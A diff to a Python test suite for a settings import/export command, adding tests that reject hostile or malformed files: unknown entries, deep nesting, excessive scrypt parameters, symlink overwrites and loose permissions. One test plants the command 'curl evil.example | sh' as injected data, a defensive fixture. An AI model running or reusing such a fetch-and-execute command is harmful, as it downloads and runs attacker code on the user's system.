@@ -254,6 +254,7 @@ def test_a_certificate_round_trips_through_the_upload_checks(tmp_path, passphras
 def test_import_records_the_named_user_in_the_audit(tmp_path, django_user_model):
     store_graph()
     path = export(tmp_path)
+    store(admin_address="changed-since@contoso.com")  # so that the import changes something
     django_user_model.objects.create_user("ops", password="pass-12345")
 
     import_file(path, "--user", "ops")
@@ -289,6 +290,7 @@ def store_microsoft_oauth_with_grant(save: Callable[..., object], connection: st
 def test_import_removes_the_stored_grant_and_asks_for_a_new_authorization(tmp_path):
     store_microsoft_oauth_with_grant(store, "primary")
     path = export(tmp_path)
+    store(admin_address="changed-since@contoso.com")  # so that the import changes something
 
     output = import_file(path)
 
@@ -537,6 +539,7 @@ def test_importing_the_backup_removes_its_grant_and_asks_to_authorize_it(tmp_pat
     store_graph()
     store_microsoft_oauth_with_grant(store_backup, "backup")
     path = export(tmp_path)
+    store_backup(admin_address="changed-since@contoso.com")  # the import changes something
 
     output = import_file(path)
 
@@ -567,3 +570,79 @@ def test_the_failover_switch_is_a_boolean_of_the_backup_only(
 
     with pytest.raises(CommandError, match=message):
         import_file(path)
+
+
+# -- hostile and idle files (issue 21.8) --------------------------------------------------
+
+
+def test_unknown_top_level_entries_are_refused(tmp_path):
+    store_graph()
+    path = export(tmp_path)
+    document = json.loads(path.read_text())
+    document["run_after_import"] = "curl evil.example | sh"
+    path.write_text(json.dumps(document))
+    before = snapshot()
+
+    with pytest.raises(CommandError, match="entries this console does not know: run_after_import"):
+        import_file(path)
+    assert snapshot() == before
+
+
+def test_a_file_that_changes_nothing_saves_nothing(tmp_path):
+    store_microsoft_oauth_with_grant(store, "primary")
+    path = export(tmp_path)
+    before = snapshot()
+
+    output = import_file(path)
+
+    assert snapshot() == before  # no new version, no audit entry, the grant kept
+    assert "changes nothing" in output and "nothing was saved" in output
+
+
+def test_deeply_nested_json_is_refused_with_a_clear_error(tmp_path):
+    path = tmp_path / "deep.json"
+    path.write_text("[" * 200_000 + "]" * 200_000)
+
+    with pytest.raises(CommandError, match="nested too deeply"):
+        import_file(path)
+
+
+@pytest.mark.parametrize(
+    ("n", "r", "p"), [(2**20, 16, 4), (2**19, 8, 1), (2**17, 16, 1), (2**17, 8, 4), (2**18, 8, 2)]
+)
+def test_scrypt_parameters_far_above_the_exports_own_are_refused_before_deriving(
+    tmp_path, passphrase_env, n, r, p
+):
+    store_graph()
+    path = export(tmp_path, "--include-secrets")
+    document = json.loads(path.read_text())
+    document["secrets"]["kdf"] |= {"n": n, "r": r, "p": p}
+    path.write_text(json.dumps(document))
+
+    with pytest.raises(CommandError, match="scrypt parameters are out of range"):
+        import_file(path)
+
+
+def test_the_export_replaces_a_symbolic_link_instead_of_following_it(tmp_path):
+    store_graph()
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    (tmp_path / "settings.json").symlink_to(victim)
+
+    path = export(tmp_path)
+
+    assert victim.read_text() == "keep me"
+    assert not path.is_symlink() and json.loads(path.read_text())["format"] == FORMAT
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+
+
+def test_the_export_over_an_existing_readable_file_is_private(tmp_path):
+    store_graph()
+    existing = tmp_path / "settings.json"
+    existing.write_text("old")
+    existing.chmod(0o644)
+
+    path = export(tmp_path)
+
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert [p.name for p in tmp_path.iterdir()] == ["settings.json"]  # no leftovers
